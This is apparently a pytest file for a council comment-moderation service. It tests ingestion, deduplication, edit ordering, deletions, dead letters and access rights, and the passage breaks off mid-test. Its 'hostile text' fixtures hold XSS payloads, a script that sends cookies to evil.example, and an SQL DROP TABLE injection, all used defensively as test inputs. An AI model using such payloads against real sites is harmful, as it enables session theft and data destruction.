"""Taking comments in: matching accounts, storing each comment once, dead letters, queueing the check."""

from __future__ import annotations

import itertools
import json
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from django.utils import timezone
from rest_framework.test import APIClient

from civicguard.apps.audit.models import AuditEntry
from civicguard.apps.moderation import tasks
from civicguard.apps.moderation.connectors import MAX_COMMENT_CHARS
from civicguard.apps.moderation.models import (
    REPLACED_NOTE,
    STALE_NOTE,
    Comment,
    CommentCheck,
    CommentRevision,
    CommentStatus,
    DeadLetter,
    ModerationDecision,
    PlatformDeletion,
)
from civicguard.apps.moderation.services.decisions import decide
from civicguard.apps.moderation.services.ingest import (
    MAX_BODY_BYTES,
    MAX_STORED_BODY,
    dead_letter_resolve,
    dead_letter_retake,
    ingest,
)
from civicguard.apps.staff.services import token_issue
from civicguard.errors import BadInput, NotAllowed, NotFound
from tests.apps.factories import person
from tests.apps.moderation.factories import CLEAN, OFFENSIVE, PERSONAL, account, body, comment, deliver, item


def stored(*ids: str) -> list[Comment]:
    return list(Comment.objects.filter(platform_id__in=ids).order_by("platform_id"))


# ---- matching comments to accounts ---------------------------------------------------------------------

def test_a_comment_is_matched_to_its_account_by_platform_id(st_helens):
    acct = account(platform="facebook", handle="@StHelensCouncil", platform_id="555001")
    other = account(platform="facebook", handle="@OtherPage", platform_id="555002")
    report = deliver(None, [item(CLEAN, id="m-1", platform="facebook", account_id="555001",
                                 account="OtherPage")])
    assert len(report.created) == 1 and not report.dead_letters
    comment = Comment.objects.get(platform_id="m-1")
    # The platform id wins over a handle naming another account.
    assert comment.account == acct and comment.account != other
    assert comment.council == st_helens and comment.platform == "facebook" and comment.source == "json"
    assert comment.status == CommentStatus.PENDING


@pytest.mark.parametrize("registered", ["@StHelensCouncil", "StHelensCouncil"])
@pytest.mark.parametrize("given", ["StHelensCouncil", "@sthelenscouncil", "STHELENSCOUNCIL", "@StHelensCouncil"])
def test_a_comment_is_matched_by_handle_whatever_the_case_and_with_or_without_the_at(registered, given):
    acct = account(platform="x", handle=registered, platform_id="")
    report = deliver(None, [item(CLEAN, id="h-1", platform="x", account=given)])
    assert report.dead_letters == [], report.reasons
    assert Comment.objects.get(platform_id="h-1").account == acct


def test_a_handle_is_matched_only_on_its_own_platform():
    account(platform="x", handle="@StHelensCouncil", platform_id="")
    report = deliver(None, [item(CLEAN, id="p-1", platform="facebook", account="StHelensCouncil")])
    assert not report.created and len(report.dead_letters) == 1


def test_a_forced_account_takes_every_comment_whatever_it_names():
    acct = account("sefton", platform="facebook", handle="@SeftonCouncil")
    account(platform="facebook", handle="@StHelensCouncil", platform_id="777")
    report = deliver(acct, [item(CLEAN, id="f-1", account_id="777"), item(CLEAN, id="f-2"),
                            item(CLEAN, id="f-3", account="nobody")])
    assert len(report.created) == 3
    assert {c.account for c in stored("f-1", "f-2", "f-3")} == {acct}
    assert {c.council.slug for c in stored("f-1", "f-2", "f-3")} == {"sefton"}


def test_an_unknown_source_is_refused():
    with pytest.raises(BadInput) as err:
        ingest(source="myspace", body=b"{}")
    assert err.value.data["field"] == "source"


# ---- once only -----------------------------------------------------------------------------------------

def test_the_same_payload_delivered_twice_stores_each_comment_once():
    acct = account()
    items = [item(CLEAN, id="d-1"), item(OFFENSIVE, id="d-2")]
    first = deliver(acct, items)
    second = deliver(acct, items)
    assert len(first.created) == 2 and first.duplicates == 0
    assert second.created == [] and second.duplicates == 2
    assert Comment.objects.count() == 2


def test_the_same_comment_twice_in_one_payload_is_stored_once():
    acct = account()
    report = deliver(acct, [item(CLEAN, id="t-1"), item(CLEAN, id="t-1"), item(OFFENSIVE, id="t-2")])
    assert len(report.created) == 2 and report.duplicates == 1
    assert Comment.objects.filter(platform_id="t-1").count() == 1


def test_a_second_delivery_does_not_queue_another_check(django_capture_on_commit_callbacks):
    acct = account()
    items = [item(CLEAN, id="q-1")]
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        deliver(acct, items)
    assert len(callbacks) == 1
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        deliver(acct, items)
    assert callbacks == []
    assert CommentCheck.objects.count() == 1


# ---- edits ---------------------------------------------------------------------------------------------

def test_an_identical_redelivery_adds_no_revision_and_no_check(django_capture_on_commit_callbacks):
    c = comment(account(), CLEAN, id="e-0")
    # The same text after the same cleaning (a NUL dropped, spaces trimmed) is the same comment.
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        report = deliver(c.account, [item(CLEAN, id="e-0"), item(f"  {CLEAN[:9]}\x00{CLEAN[9:]} ", id="e-0")])
    assert (report.created, report.edited, report.duplicates) == ([], [], 2) and callbacks == []
    assert not CommentRevision.objects.exists() and not ModerationDecision.objects.exists()
    assert CommentCheck.objects.count() == 1 and not AuditEntry.objects.filter(event__endswith="edited").exists()


@pytest.mark.parametrize("before", [CommentStatus.CLEAR, CommentStatus.APPROVED, CommentStatus.NEEDS_REVIEW,
                                    CommentStatus.ROUTED, CommentStatus.PENDING])
def test_an_edit_of_a_comment_still_shown_is_checked_again(before, django_capture_on_commit_callbacks):
    c = comment(account(), CLEAN, id="e-1", checked=before != CommentStatus.PENDING)
    Comment.objects.filter(pk=c.pk).update(status=before)
    with django_capture_on_commit_callbacks(execute=True):
        report = deliver(c.account, [item(OFFENSIVE, id="e-1")])
    assert (report.created, report.edited, report.duplicates) == ([], [c.pk], 0)
    assert report.to_dict()["edited"] == 1
    c.refresh_from_db()
    assert c.text == OFFENSIVE and c.edits == 1 and c.status == CommentStatus.NEEDS_REVIEW
    assert c.latest_check.trigger == "edit" and c.categories == ",offensive,"
    [revision] = c.revisions.all()
    assert (revision.text, revision.status_before, revision.source) == (CLEAN, before, "json")
    edited = c.decisions.get(action="edited")
    assert (edited.actor, edited.status_before, edited.status_after) == (None, before, CommentStatus.PENDING)


@pytest.mark.parametrize("before", [CommentStatus.HIDDEN, CommentStatus.ESCALATED, CommentStatus.REMOVAL_PENDING,
                                    CommentStatus.REMOVED])
def test_an_edit_keeps_a_persons_decision_and_checks_the_new_text(before, django_capture_on_commit_callbacks):
    c = comment(account(), OFFENSIVE, id="e-2")
    Comment.objects.filter(pk=c.pk).update(status=before)
    with django_capture_on_commit_callbacks(execute=True):
        report = deliver(c.account, [item(PERSONAL, id="e-2")])
    assert report.edited == [c.pk]
    c.refresh_from_db()
    assert c.status == before and c.text == PERSONAL and c.edits == 1
    assert c.revisions.get().text == OFFENSIVE
    # The findings shown are of the new text: checked, without touching the status.
    assert c.latest_check.trigger == "edit" and c.categories == ",personal_data," and c.checks.count() == 2
    edited = c.decisions.get(action="edited")
    assert (edited.actor, edited.status_before, edited.status_after) == (None, before, before)
    assert "decision stands" in edited.note


def test_an_edit_is_audited_without_the_text():
    c = comment(account(), CLEAN, id="e-3")
    deliver(c.account, [item(PERSONAL, id="e-3")])
    entry = AuditEntry.objects.get(event="moderation.comment.edited")
    assert (entry.actor, entry.council, entry.object_id) == ("", "st-helens", str(c.pk))
    assert entry.before == {"status": "clear", "text_length": len(CLEAN)}
    assert entry.after["status"] == "pending" and entry.after["platform_id"] == "e-3"
    assert entry.after["text_length"] == len(PERSONAL) and entry.after["edits"] == 1
    assert "Joan" not in json.dumps([entry.before, entry.after]) and "library" not in json.dumps(entry.after)


def test_an_edit_delivered_twice_is_kept_once():
    c = comment(account(), CLEAN, id="e-4")
    assert deliver(c.account, [item(OFFENSIVE, id="e-4")]).edited == [c.pk]
    again = deliver(c.account, [item(OFFENSIVE, id="e-4")])
    assert (again.edited, again.duplicates) == ([], 1)
    assert c.revisions.count() == 1 and c.decisions.filter(action="edited").count() == 1


def test_edits_in_one_payload_are_kept_in_order(django_capture_on_commit_callbacks):
    acct = account()
    with django_capture_on_commit_callbacks(execute=True):
        report = deliver(acct, [item(CLEAN, id="e-5"), item(OFFENSIVE, id="e-5"), item(PERSONAL, id="e-5"),
                                item(PERSONAL, id="e-5")])
    c = Comment.objects.get(platform_id="e-5")
    assert (report.created, report.edited, report.duplicates) == ([c.pk], [c.pk], 1)
    assert c.text == PERSONAL and c.edits == 2 and c.status == CommentStatus.NEEDS_REVIEW
    assert [r.text for r in c.revisions.all()] == [OFFENSIVE, CLEAN]  # newest first


def test_a_delivery_for_another_account_never_rewrites_a_comment():
    theirs = comment(account("st-helens", platform="facebook"), CLEAN, id="e-7")
    mine = account("sefton", platform="facebook")
    report = deliver(mine, [item(OFFENSIVE, id="e-7")], actor=person("moderator", "sefton"))
    assert (report.created, report.edited, report.duplicates) == ([], [], 1)
    theirs.refresh_from_db()
    assert theirs.text == CLEAN and theirs.edits == 0 and not theirs.revisions.exists()


def test_an_edit_whose_check_was_lost_is_found_by_the_sweep(monkeypatch, django_capture_on_commit_callbacks):
    hidden = comment(account(), OFFENSIVE, id="e-6")
    Comment.objects.filter(pk=hidden.pk).update(status=CommentStatus.HIDDEN)
    monkeypatch.setattr(tasks.scan_comments, "delay", lambda *args: (_ for _ in ()).throw(ConnectionError()))
    with django_capture_on_commit_callbacks(execute=True):
        deliver(hidden.account, [item(PERSONAL, id="e-6")])
    hidden.refresh_from_db()
    assert hidden.latest_check is None and hidden.status == CommentStatus.HIDDEN
    monkeypatch.undo()
    ago = timezone.now() - timedelta(minutes=5)
    Comment.objects.update(received=ago, updated=ago)
    assert tasks.run_sweep() == {"comments": 1, "handoffs": 0}
    hidden.refresh_from_db()
    assert hidden.categories == ",personal_data," and hidden.status == CommentStatus.HIDDEN
    assert tasks.run_sweep() == {"comments": 0, "handoffs": 0}


# ---- versions: never back in time (docs/comment-versions.md) -------------------------------------------------

T0 = datetime(2025, 3, 14, 9, 30, tzinfo=UTC)  # the comment's creation (factories.item's created_at)
ORIGINAL, FIRST_EDIT, SECOND_EDIT = (CLEAN, None), (OFFENSIVE, T0 + timedelta(minutes=10)), (
    PERSONAL, T0 + timedelta(minutes=20))


def version(text: str, edited: datetime | None = None, pid: str = "v-1") -> dict[str, Any]:
    """One delivery of comment `pid`: its text and, for an edit, the platform's time for it."""
    return item(text, id=pid, **({"edited_at": edited.isoformat()} if edited else {}))


def arrive(acct, *versions: tuple[str, datetime | None], pid: str = "v-1", checked: Any = None) -> list[Any]:
    """Each version delivered on its own, as webhooks and imports come; with `checked` (the on-commit capture
    fixture) each delivery's check runs after its commit, before the next arrives."""
    reports = []
    for text, edited in versions:
        if checked is None:
            reports.append(deliver(acct, [version(text, edited, pid)]))
        else:
            with checked(execute=True):
                reports.append(deliver(acct, [version(text, edited, pid)]))
    return reports


def held(pid: str = "v-1") -> tuple[Any, ...]:
    """What a moderator sees of a comment: its text, status, findings and edit count."""
    c = Comment.objects.select_related("latest_check").get(platform_id=pid)
    return (c.text, c.status, c.categories, c.verdict, c.latest_check_id, c.edits, c.version_time)


ORDERS = sorted(set(itertools.permutations([ORIGINAL, FIRST_EDIT, SECOND_EDIT, ORIGINAL])))


@pytest.mark.parametrize("order", ORDERS, ids=["-".join("a12"[[ORIGINAL, FIRST_EDIT, SECOND_EDIT].index(v)]
                                                        for v in order) for order in ORDERS])
def test_in_every_order_of_arrival_the_newest_version_is_shown_and_checked(order, django_capture_on_commit_callbacks):
    acct = account()
    reports = arrive(acct, *order, checked=django_capture_on_commit_callbacks)
    c = Comment.objects.get(platform_id="v-1")
    assert c.text == PERSONAL and c.status == CommentStatus.NEEDS_REVIEW and "personal_data" in c.category_list
    assert c.version_time == SECOND_EDIT[1]
    # Every version is kept once: the newest on the comment, the others in its history, newest first.
    assert [r.text for r in c.revisions.all()] == [OFFENSIVE, CLEAN]
    assert sum(len(r.created) for r in reports) == 1 and sum(r.duplicates for r in reports) >= 1
    # What was shown only ever moved forward: each edit replaced an older text.
    assert c.edits == sum(len(r.edited) for r in reports) and c.edits == c.revisions.filter(stale=False).count()
    assert [item["id"] for item in queue(acct)] == [c.pk]


def queue(acct) -> list[dict[str, Any]]:
    """The moderator's queue through the API, as the contract reads it."""
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {token_issue(user=person('moderator', acct.council.slug))}")
    return client.get("/api/v1/comments?status=queue").json()["results"]


def test_a_stale_delivery_changes_nothing_and_is_recorded(django_capture_on_commit_callbacks):
    acct = account()
    arrive(acct, ORIGINAL, SECOND_EDIT, checked=django_capture_on_commit_callbacks)
    c = Comment.objects.get(platform_id="v-1")
    decide(comment=c, actor=person("moderator"), action="escalate", reason_code="personal-data",
           note="a phone number")
    before, checks, decisions = held(), CommentCheck.objects.count(), ModerationDecision.objects.count()
    with django_capture_on_commit_callbacks(execute=True) as queued:
        [late] = arrive(acct, FIRST_EDIT)
    assert (late.created, late.edited, late.stale, late.duplicates) == ([], [], [c.pk], 0)
    assert late.to_dict()["stale"] == 1 and queued == []  # nothing to check again
    assert held() == before and CommentCheck.objects.count() == checks
    assert ModerationDecision.objects.count() == decisions
    stale = c.revisions.get(stale=True)
    assert (stale.text, stale.platform_time, stale.note) == (OFFENSIVE, FIRST_EDIT[1], STALE_NOTE)
    assert stale.status_before == CommentStatus.ESCALATED and stale.latest_check is None
    entry = AuditEntry.objects.get(event="moderation.comment.stale")
    assert entry.object_id == str(c.pk) and entry.after["note"] == STALE_NOTE
    assert entry.after["revision"] == stale.pk and entry.after["status"] == "escalated"
    assert "idiots" not in json.dumps(entry.after)  # the text stays out of the audit log
    # Delivered again, it is a duplicate: no second revision, no second audit entry.
    [again] = arrive(acct, FIRST_EDIT)
    assert (again.stale, again.duplicates) == ([], 1)
    assert c.revisions.filter(stale=True).count() == 1
    assert AuditEntry.objects.filter(event="moderation.comment.stale").count() == 1
    # The moderator's view is unchanged, so a decision made on it is still accepted.
    decide(comment=c, actor=person("moderator"), action="hide", reason_code="personal-data", seen_edits=before[5])


def test_the_status_follows_the_newest_version_and_the_history_keeps_the_older_findings(
        django_capture_on_commit_callbacks):
    acct = account()
    arrive(acct, (OFFENSIVE, None), (CLEAN, T0 + timedelta(minutes=5)), checked=django_capture_on_commit_callbacks)
    c = Comment.objects.get(platform_id="v-1")
    assert c.text == CLEAN and c.status == CommentStatus.CLEAR and c.categories == ""
    [older] = c.revisions.all()
    assert older.text == OFFENSIVE and older.note == REPLACED_NOTE and older.platform_time == T0
    assert {f["category"] for f in older.latest_check.result["findings"]} == {"offensive"}
    # The retry of the flagged original, and another older text, change nothing: it stays clear.
    retry, late = arrive(acct, (OFFENSIVE, None), (PERSONAL, T0 + timedelta(minutes=2)),
                         checked=django_capture_on_commit_callbacks)
    assert retry.duplicates == 1 and late.stale == [c.pk]
    c.refresh_from_db()
    assert c.text == CLEAN and c.status == CommentStatus.CLEAR


def test_a_newer_version_with_the_same_text_still_outranks_an_older_edit(django_capture_on_commit_callbacks):
    acct = account()
    reports = arrive(acct, ORIGINAL, (CLEAN, T0 + timedelta(minutes=30)), FIRST_EDIT,
                     checked=django_capture_on_commit_callbacks)
    assert reports[1].duplicates == 1 and reports[2].stale
    assert Comment.objects.get(platform_id="v-1").text == CLEAN


def test_with_no_time_to_tell_them_apart_the_later_arrival_wins_and_a_retry_changes_nothing():
    acct = account()
    reports = arrive(acct, (CLEAN, None), (OFFENSIVE, None), (CLEAN, None))
    assert reports[1].edited and (reports[2].edited, reports[2].stale, reports[2].duplicates) == ([], [], 1)
    assert Comment.objects.get(platform_id="v-1").text == OFFENSIVE


def test_a_file_without_edit_times_cannot_undo_an_edit_with_one():
    acct = account()
    arrive(acct, ORIGINAL, FIRST_EDIT)
    [old_export] = arrive(acct, (PERSONAL, None))
    assert old_export.stale and Comment.objects.get(platform_id="v-1").text == OFFENSIVE


def _youtube(text: str, updated: str) -> bytes:
    return json.dumps({"kind": "youtube#commentListResponse", "items": [{"kind": "youtube#comment", "id": "Ugy1",
                       "snippet": {"channelId": "UCst", "videoId": "v1", "textOriginal": text,
                                   "authorChannelId": {"value": "U1"}, "publishedAt": "2025-03-10T18:00:00Z",
                                   "updatedAt": updated}}]}).encode()


def _mastodon(text: str, edited_at: str | None) -> bytes:
    return json.dumps({"id": "11", "content": f"<p>{text}</p>", "created_at": "2025-03-14T10:00:00Z",
                       "edited_at": edited_at, "account": {"id": "5", "acct": "resident"},
                       "in_reply_to_account_id": "109", "in_reply_to_id": "10", "mentions": []}).encode()


def _x(post_id: str, history: list[str], text: str, created: str) -> bytes:
    return json.dumps({"data": {"id": post_id, "text": text, "author_id": "9", "created_at": created,
                                "edit_history_tweet_ids": history, "in_reply_to_user_id": "135"}}).encode()


@pytest.mark.parametrize(("source", "platform", "pid", "older", "newer"), [
    ("youtube", "youtube", "Ugy1", _youtube(OFFENSIVE, "2025-03-10T18:00:00Z"),
     _youtube(PERSONAL, "2025-03-11T09:00:00Z")),
    ("mastodon", "mastodon", "11", _mastodon(OFFENSIVE, None), _mastodon(PERSONAL, "2025-03-14T10:05:00Z")),
    ("x", "x", "100", _x("100", ["100"], OFFENSIVE, "2025-03-14T10:00:00Z"),
     _x("101", ["100", "101"], PERSONAL, "2025-03-14T10:10:00Z")),
])
def test_other_platforms_order_their_versions_by_their_own_times(source, platform, pid, older, newer,
                                                                 django_capture_on_commit_callbacks):
    acct = account(platform=platform)
    with django_capture_on_commit_callbacks(execute=True):
        assert ingest(source=source, body=newer, account=acct).created
        late = ingest(source=source, body=older, account=acct)
    c = Comment.objects.get(platform=platform, platform_id=pid)
    assert late.stale == [c.pk] and c.text == PERSONAL and c.edits == 0
    assert c.status == CommentStatus.NEEDS_REVIEW and "personal_data" in c.category_list
    assert c.revisions.get().stale
    # In the right order the older version is replaced as an edit.
    Comment.objects.all().delete()
    with django_capture_on_commit_callbacks(execute=True):
        ingest(source=source, body=older, account=acct)
        assert ingest(source=source, body=newer, account=acct).edited
    c = Comment.objects.get(platform=platform, platform_id=pid)
    assert c.text == PERSONAL and c.edits == 1 and not c.revisions.get().stale


@pytest.mark.parametrize("path", ["in-process", "worker"])
def test_a_check_queued_for_an_older_version_checks_only_the_newest(path, settings, monkeypatch,
                                                                    django_capture_on_commit_callbacks):
    """The checks of two versions run late and in the wrong order (a worker's queue) or at once (in process):
    only the newest text is ever checked, once, and its result is what the comment shows."""
    acct = account()
    queued: list[tuple[Any, ...]] = []
    if path == "worker":
        settings.CELERY_TASK_ALWAYS_EAGER = False
        monkeypatch.setattr(tasks.scan_comments, "delay", lambda *args: queued.append(args))
    with django_capture_on_commit_callbacks(execute=path == "worker") as callbacks:
        arrive(acct, ORIGINAL, FIRST_EDIT)
    if path == "worker":
        for args in reversed(queued):  # the edit's check first, then the add's
            tasks.scan_comments.apply(args=args)
    else:
        for callback in reversed(callbacks):
            callback()
    c = Comment.objects.get(platform_id="v-1")
    assert c.text == OFFENSIVE and c.status == CommentStatus.NEEDS_REVIEW and c.categories == ",offensive,"
    assert c.checks.count() == 1


def test_a_deletion_marks_the_comment_and_no_later_delivery_brings_it_back(django_capture_on_commit_callbacks):
    acct = account(platform="facebook", platform_id="555")
    arrive(acct, (OFFENSIVE, None), checked=django_capture_on_commit_callbacks)
    c = Comment.objects.get(platform_id="v-1")
    gone = _remove("v-1", "555", T0 + timedelta(hours=1))
    assert (gone.deleted, gone.duplicates) == (1, 0)
    c.refresh_from_db()
    # Deleted, and still waiting for a person: what the check found does not go away with it.
    assert c.deleted_at == T0 + timedelta(hours=1) and c.status == CommentStatus.NEEDS_REVIEW
    decision = c.decisions.get(action="deleted")
    assert (decision.actor, decision.status_before, decision.status_after) == (None, "needs_review", "needs_review")
    assert AuditEntry.objects.get(event="moderation.comment.deleted").after["platform_id"] == "v-1"
    assert _remove("v-1", "555", T0 + timedelta(hours=1)).duplicates == 1
    arrive(acct, (OFFENSIVE, None), FIRST_EDIT, (CLEAN, T0 + timedelta(minutes=5)),
           checked=django_capture_on_commit_callbacks)
    c.refresh_from_db()
    assert c.deleted_at is not None and c.decisions.filter(action="deleted").count() == 1


def _remove(pid: str, page: str, when: datetime) -> Any:
    """Meta's `remove` of a comment on page `page`."""
    body = {"object": "page", "entry": [{"id": page, "time": int(when.timestamp()), "changes": [{"field": "feed",
            "value": {"item": "comment", "verb": "remove", "comment_id": pid, "post_id": f"{page}_1",
                      "from": {"id": "77"}, "created_time": int(T0.timestamp())}}]}]}
    return ingest(source="meta", body=json.dumps(body).encode())


def test_a_deletion_before_its_add_is_kept_and_the_late_add_is_stored_deleted(django_capture_on_commit_callbacks):
    acct = account(platform="facebook", platform_id="555")
    gone = _remove("v-2", "555", T0 + timedelta(hours=1))
    assert gone.deleted == 1 and not Comment.objects.exists()
    deletion = PlatformDeletion.objects.get()
    assert (deletion.platform, deletion.platform_id, deletion.account) == ("facebook", "v-2", acct)
    [late] = arrive(acct, (CLEAN, None), pid="v-2", checked=django_capture_on_commit_callbacks)
    c = Comment.objects.get(platform_id="v-2")
    assert late.created == [c.pk] and c.deleted_at == T0 + timedelta(hours=1) and c.status == CommentStatus.CLEAR
    assert c.decisions.get().action == "deleted"


def test_a_deletion_for_an_account_nobody_registered_is_ignored():
    assert _remove("v-3", "999", T0).to_dict()["ignored"] == 1 and not PlatformDeletion.objects.exists()


# ---- dead letters --------------------------------------------------------------------------------------

def test_a_comment_for_an_unknown_account_becomes_a_readable_dead_letter_once(st_helens):
    items = [item("Where is my bin?", id="u-1", platform="facebook", account="NoSuchPage", author="Ann Reader")]
    report = deliver(None, items, council=st_helens, remote="203.0.113.9")
    assert report.created == [] and len(report.dead_letters) == 1
    letter = DeadLetter.objects.get()
    assert "unknown account" in letter.reason and "NoSuchPage" in letter.reason and "u-1" in letter.reason
    assert report.reasons == [letter.reason]
    assert letter.council == st_helens and letter.source == "json" and letter.remote == "203.0.113.9"
    assert letter.comment["text"] == "Where is my bin?" and letter.comment["platform_id"] == "u-1"
    assert letter.comment["author_name"] == "Ann Reader" and letter.key == "facebook:u-1"
    assert json.loads(letter.body)["id"] == "u-1"
    # The platform delivers it again: no second letter.
    again = deliver(None, items, council=st_helens)
    assert again.dead_letters == [letter.pk]
    assert DeadLetter.objects.count() == 1
    # ...nor when it comes twice inside one payload.
    deliver(None, [*items, *items], council=st_helens)
    assert DeadLetter.objects.count() == 1


@pytest.mark.parametrize("garbage", [b"this is not json {", b"\xff\xfe\x00garbage", b"   ", b'"a string"',
                                     b'{"comments": 42}'])
def test_a_payload_that_cannot_be_read_is_refused_and_kept_whole(st_helens, garbage):
    with pytest.raises(BadInput) as err:
        ingest(source="json", body=garbage, council=st_helens, remote="198.51.100.7")
    letter = DeadLetter.objects.get()
    assert letter.reason == str(err.value) and letter.council == st_helens and letter.remote == "198.51.100.7"
    assert letter.body == garbage.decode("utf-8", errors="replace").replace("\x00", "")
    assert not letter.truncated and letter.comment is None
    assert Comment.objects.count() == 0


def test_a_big_unreadable_body_is_kept_cut_at_the_limit():
    garbage = b"<" + b"x" * (MAX_STORED_BODY + 5000)
    with pytest.raises(BadInput):
        ingest(source="json", body=garbage)
    letter = DeadLetter.objects.get()
    assert letter.truncated and len(letter.body) == MAX_STORED_BODY and letter.body.startswith("<xxx")
    assert letter.council is None


def test_a_body_over_the_size_limit_is_refused_before_reading(st_helens):
    huge = b"[" + b" " * MAX_BODY_BYTES + b"]"
    with pytest.raises(BadInput) as err:
        ingest(source="json", body=huge, council=st_helens)
    assert "limit" in str(err.value)
    letter = DeadLetter.objects.get()
    assert letter.truncated and len(letter.body) == MAX_STORED_BODY and "over the" in letter.reason


def test_unreadable_items_are_rejected_one_by_one_and_the_rest_stored(st_helens):
    acct = account()
    items = [item(CLEAN, id="ok-1"), {"id": "no-text", "created_at": "2025-03-14T09:00:00Z"},
             item("bad date", id="bad-date", created_at="next Tuesday"), "not an object",
             item("x" * (MAX_COMMENT_CHARS + 1), id="too-long")]
    report = ingest(source="json", body=body(items), account=acct)
    assert [c.platform_id for c in Comment.objects.all()] == ["ok-1"]
    assert len(report.dead_letters) == 4
    letters = DeadLetter.objects.order_by("id")
    reasons = [letter.reason for letter in letters]
    assert "no text" in reasons[0] and "bad date" in reasons[1] and "not a comment object" in reasons[2]
    assert "limit" in reasons[3]
    assert all(letter.council == st_helens for letter in letters)
    assert json.loads(letters[0].body)["id"] == "no-text"


def test_an_importer_may_only_bring_in_comments_for_their_own_councils(sefton):
    mine = account("sefton", platform="x", handle="@SeftonCouncil", platform_id="")
    theirs = account("st-helens", platform="x", handle="@StHelensCouncil", platform_id="")
    importer = person("moderator", "sefton")
    items = [item(CLEAN, id="i-1", platform="x", account="SeftonCouncil"),
             item(CLEAN, id="i-2", platform="x", account="StHelensCouncil")]
    report = deliver(None, items, actor=importer, council=sefton)
    assert [c.account for c in stored("i-1", "i-2")] == [mine]
    letter = DeadLetter.objects.get()
    # Worded as an unregistered account: Sefton is not told that St Helens registered it.
    assert report.dead_letters == [letter.pk] and letter.reason.startswith("unknown account")
    assert theirs.council.slug not in letter.reason
    # Filed under no council: St Helens' data is not shown to Sefton's moderators.
    assert letter.council is None


def test_an_actor_without_the_import_right_in_the_accounts_council_gets_dead_letters():
    acct = account()
    report = deliver(None, [item(CLEAN, id="a-1", platform="facebook", account_id=acct.platform_id)],
                     actor=person("approver"))
    assert report.created == [] and len(report.dead_letters) == 1
    assert not Comment.objects.exists()
    report = deliver(None, [item(CLEAN, id="a-1", platform="facebook", account_id=acct.platform_id)],
                     actor=person("moderator"))
    assert len(report.created) == 1


# ---- dead letters: taking a comment again, resolving ---------------------------------------------------

def _unknown_letter(council, handle="NewPage", pid="r-1", text=OFFENSIVE):
    deliver(None, [item(text, id=pid, platform="facebook", account=handle, author="Rita")], council=council)
    return DeadLetter.objects.get(key=f"facebook:{pid}")


def test_a_dead_letter_is_taken_again_once_its_account_is_registered(st_helens, django_capture_on_commit_callbacks):
    letter = _unknown_letter(st_helens)
    moderator = person("moderator")
    assert dead_letter_retake(letter=letter, actor=moderator) is None
    letter.refresh_from_db()
    assert letter.resolved is None
    acct = account(platform="facebook", handle="@NewPage")
    with django_capture_on_commit_callbacks(execute=True):
        comment = dead_letter_retake(letter=letter, actor=moderator)
    assert comment is not None and comment.account == acct and comment.author_name == "Rita"
    assert comment.text == OFFENSIVE and comment.platform_id == "r-1"
    comment.refresh_from_db()
    assert comment.status == CommentStatus.NEEDS_REVIEW  # checked after the commit
    letter.refresh_from_db()
    assert letter.resolved is not None and letter.resolved_by == moderator and acct.handle in letter.resolution
    with pytest.raises(BadInput):
        dead_letter_retake(letter=letter, actor=moderator)
    # Later deliveries of the comment are now duplicates, not letters.
    report = deliver(None, [item(OFFENSIVE, id="r-1", platform="facebook", account="NewPage")])
    assert report.duplicates == 1 and report.dead_letters == [] and DeadLetter.objects.count() == 1


def test_retaking_a_dead_letter_needs_the_dead_letter_right_in_the_accounts_council(st_helens):
    letter = _unknown_letter(st_helens)
    account(platform="facebook", handle="NewPage")
    with pytest.raises(NotAllowed):
        dead_letter_retake(letter=letter, actor=person("approver"))
    with pytest.raises(NotFound):
        dead_letter_retake(letter=letter, actor=person("moderator", "sefton"))
    assert not Comment.objects.exists()


def test_resolving_a_dead_letter_needs_the_dead_letter_right_in_its_council(st_helens):
    letter = _unknown_letter(st_helens)
    with pytest.raises(NotAllowed):
        dead_letter_resolve(letter=letter, actor=person("approver"), resolution="spam")
    with pytest.raises(NotFound):
        dead_letter_resolve(letter=letter, actor=person("moderator", "sefton"), resolution="spam")
    for bad in ["", "   ", "x" * 501, None]:
        with pytest.raises(BadInput) as err:
            dead_letter_resolve(letter=letter, actor=person("moderator"), resolution=bad)
        assert err.value.data["field"] == "resolution"
    letter.refresh_from_db()
    assert letter.resolved is None
    moderator = person("moderator")
    dead_letter_resolve(letter=letter, actor=moderator, resolution="  spam from a bot  ")
    letter.refresh_from_db()
    assert letter.resolved_by == moderator and letter.resolution == "spam from a bot"
    entry = AuditEntry.objects.get(event="moderation.dead_letter.resolve")
    assert entry.actor == moderator.username and entry.council == "st-helens"
    assert entry.after["resolution"] == "spam from a bot"


def test_a_dead_letter_of_no_council_cannot_be_resolved_by_a_moderator():
    with pytest.raises(BadInput):
        ingest(source="json", body=b"nonsense")
    with pytest.raises(BadInput):
        dead_letter_resolve(letter=DeadLetter.objects.get(), actor=person("moderator"), resolution="seen")


# ---- hostile text --------------------------------------------------------------------------------------

HOSTILE = [
    '<img src=x onerror="alert(1)"><b>bold</b> &amp; <a href="javascript:alert(2)">click</a>',
    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    "zero\u200bwidth\u200c joiners\u200d and \ufeff BOM",
    "right-to-left \u202eoverride\u202c and \u2066isolate\u2069",
    "'; DROP TABLE moderation_comment; --",
    "emoji \U0001f4a9 and combining e\u0301 and \U0010ffff",
    "long " + "word " * 3999,
]


@pytest.mark.parametrize("text", HOSTILE, ids=["html", "script", "zero-width", "rtl", "sql", "unicode", "20k"])
def test_hostile_text_is_stored_as_given_and_checked(text, django_capture_on_commit_callbacks):
    acct = account()
    with django_capture_on_commit_callbacks(execute=True):
        report = deliver(acct, [item(text, id="x-1", author=text[:50])])
    comment = Comment.objects.get(pk=report.created[0])
    assert comment.text == text.strip() and comment.author_name == text[:50].strip()
    assert comment.status in (CommentStatus.CLEAR, CommentStatus.NEEDS_REVIEW)
    assert comment.latest_check is not None


def test_nul_characters_are_dropped_from_text_and_raw_record():
    acct = account()
    report = deliver(acct, [item("before\x00after", id="n-1", author="Nul\x00Name", extra="a\x00b")])
    comment = Comment.objects.get(pk=report.created[0])
    assert comment.text == "beforeafter" and comment.author_name == "NulName"
    assert "\x00" not in json.dumps(comment.raw) and comment.raw["extra"] == "ab"


def test_a_comment_of_exactly_the_length_limit_is_stored():
    acct = account()
    text = "a" * MAX_COMMENT_CHARS
    report = deliver(acct, [item(text, id="l-1")])
    assert Comment.objects.get(pk=report.created[0]).text == text


def test_a_link_that_is_not_http_is_not_stored_as_the_comments_address():
    acct = account()
    report = deliver(acct, [item(CLEAN, id="url-1", url="javascript:alert(1)"),
